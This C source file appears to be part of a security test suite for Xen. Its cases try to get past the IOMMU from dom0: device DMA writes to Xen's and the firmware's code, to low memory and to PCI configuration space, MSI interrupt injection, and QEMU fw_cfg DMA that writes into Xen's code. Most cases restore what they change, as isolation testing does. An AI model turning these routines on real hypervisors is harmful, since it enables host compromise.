// SPDX-License-Identifier: GPL-2.0-only
/*
 * What devices do with memory at the kernel's word: they read and write it
 * themselves, and what they write to some addresses is an interrupt. Only an
 * IOMMU holds them.
 */
#include "firmware.h"
#include "registers.h"
#include "xen_memory.h"

/* K-DMA: have a device write to Xen's code. */
static void write_by_dma(uint64_t where, uint32_t word)
{
    dma_write(where, &word, sizeof(word));
}

KERNEL_ATTACK_BY("K-DMA", "have a device write to Xen's code",
                 change_version(write_by_dma))

/* Change a word of memory by the device, and put it back. */
static enum outcome change_by_dma(uint64_t where, const char *what)
{
    uint32_t before, now = 0;
    bool changed;

    if ( !where )
        return cannot_try("%s is not to be found", what);
    if ( !dma_read(where, &before, sizeof(before)) )
        return cannot_try("no device that does DMA");
    dma_write(where, &(uint32_t){ ~before }, sizeof(before));
    changed = dma_read(where, &now, sizeof(now)) && now == ~before;
    if ( changed )
        dma_write(where, &before, sizeof(before));

    return effect(changed, "%s, at %#lx, %s", what, where,
                  changed ? "changed and put back" : "as it was");
}

/* K-DMA-RUNTIME: to the code of the firmware's that Xen runs. */
KERNEL_ATTACK_BY("K-DMA-RUNTIME", "have a device write to the firmware's code",
                 change_by_dma(firmware_service(0), "the firmware's code"))

/* K-DMA-LOWMEM: below 1 MiB, where processors begin. */
KERNEL_PV_ATTACK("K-DMA-LOWMEM", "have a device write below 1 MiB",
                 "to a PVH dom0's devices that is memory of its own")
{
    return change_by_dma(0x7c00, "memory below 1 MiB");
}

/*
 * K-DMA-ECAM: have a device write to configuration space.
 *
 * The window to it is memory to devices as well. The register is the host
 * bridge's, and only stores.
 */
KERNEL_ATTACK("K-DMA-ECAM", "have a device write to configuration space")
{
    static const unsigned int scratch = 0xdc;
    const uint64_t where = ecam_base() + HOST_BRIDGE * PAGE_SIZE + scratch;
    const uint32_t before = config_read(HOST_BRIDGE, scratch, 4);
    uint32_t after;

    if ( !ecam_base() )
        return cannot_try("no table tells where the window is");
    dma_write(where, &(uint32_t){ ~before }, sizeof(before));
    after = config_read(HOST_BRIDGE, scratch, 4);
    config_write(HOST_BRIDGE, scratch, 4, before);

    return effect_either(after == ~before, "a register of the host bridge",
                         "changed and put back", "as it was");
}

/*
 * K-DMA-MSI: have the device write where a write is an interrupt.
 *
 * Of any vector, or of a kind that cannot be masked, to any processor.
 */
KERNEL_ATTACK("K-DMA-MSI", "interrupt a processor by a device's DMA")
{
    static const uint32_t vector = 0xd5;

    dma_write(0xfee00000, &vector, sizeof(vector));
    return show_vector(vector);
}

/*
 * K-MSI: tell a device which interrupt to send.
 *
 * The device has no mask for its MSI, so that Xen leaves it all to dom0.
 */
KERNEL_ATTACK("K-MSI", "have a device send an interrupt of dom0's choosing")
{
    static const uint32_t vector = 0xd3, enable = 1;
    const unsigned int msi = find_capability(EDU, 5);
    volatile char *edu = map_edu();
    uint32_t control;
    enum outcome outcome;

    if ( !msi || !edu )
        return cannot_try("no device with an MSI");
    control = config_read(EDU, msi + 2, 2);
    config_write(EDU, msi + 4, 4, 0xfee00000);
    config_write(EDU, msi + 8, 4, 0);
    config_write(EDU, msi + 12, 2, vector);
    config_write(EDU, msi + 2, 2, control | enable);
    *(volatile uint32_t *)(edu + 0x60) = 1; /* raise its interrupt */
    outcome = show_vector(vector);
    *(volatile uint32_t *)(edu + 0x64) = 1; /* and have it cleared */
    config_write(EDU, msi + 2, 2, control);
    unmap_machine(edu, 1);

    return outcome;
}

/* ---- QEMU's fw_cfg ---- */

/*
 * QEMU hands files to the firmware by ports, and by DMA that passes no IOMMU. An
 * order for it is big-endian, and its address goes to a port, high word first.
 */
#define FWCFG_SELECT 0x510
#define FWCFG_DATA   0x511
#define FWCFG_DMA    0x514

#define ORDER_READ   (1U << 1)
#define ORDER_SKIP   (1U << 2)
#define ORDER_SELECT (1U << 3)

struct order {
    uint32_t control, length;
    uint64_t address;
};

/* PVH kernels, too, know where in the machine the display's memory is. */
static uint64_t display_memory(void)
{
    static const uint16_t display = PCI_AT(0, 1, 0);

    return config_read(display, 0x10, 4) & ~0xfU;
}

static void give_order(uint32_t control, uint32_t length, uint64_t address)
{
    volatile void *page = map_machine(display_memory() / PAGE_SIZE, 1);

    if ( !page )
        return;
    *(volatile struct order *)page =
        (struct order){ __builtin_bswap32(control), __builtin_bswap32(length),
                        __builtin_bswap64(address) };
    port_out(FWCFG_DMA, 4, 0);
    port_out(FWCFG_DMA + 4, 4, __builtin_bswap32((uint32_t)display_memory()));
    unmap_machine(page, 1);
}

/* The list of files, where many a byte is to be found. */
#define MANY 2048
static const uint16_t files = 0x19;

static uint32_t find_byte(uint8_t byte)
{
    uint32_t at = 0;

    port_out(FWCFG_SELECT, 2, files);
    while ( at < MANY && port_in(FWCFG_DATA, 1) != byte )
        at++;
    return at;
}

/* The first byte of the word is the same for all versions. */
static void write_by_fwcfg(uint64_t where, uint32_t word)
{
    const uint32_t at = find_byte((uint8_t)(word >> 8));

    if ( at == MANY )
        return;
    give_order(ORDER_SELECT | ORDER_SKIP | (uint32_t)files << 16, at, 0);
    give_order(ORDER_READ, 1, where + 1);
}

/* K-PORT-FWCFG: have the machine itself write to Xen's code. */
KERNEL_ATTACK_BY("K-PORT-FWCFG", "have QEMU write to Xen's code",
                 change_version(write_by_fwcfg))
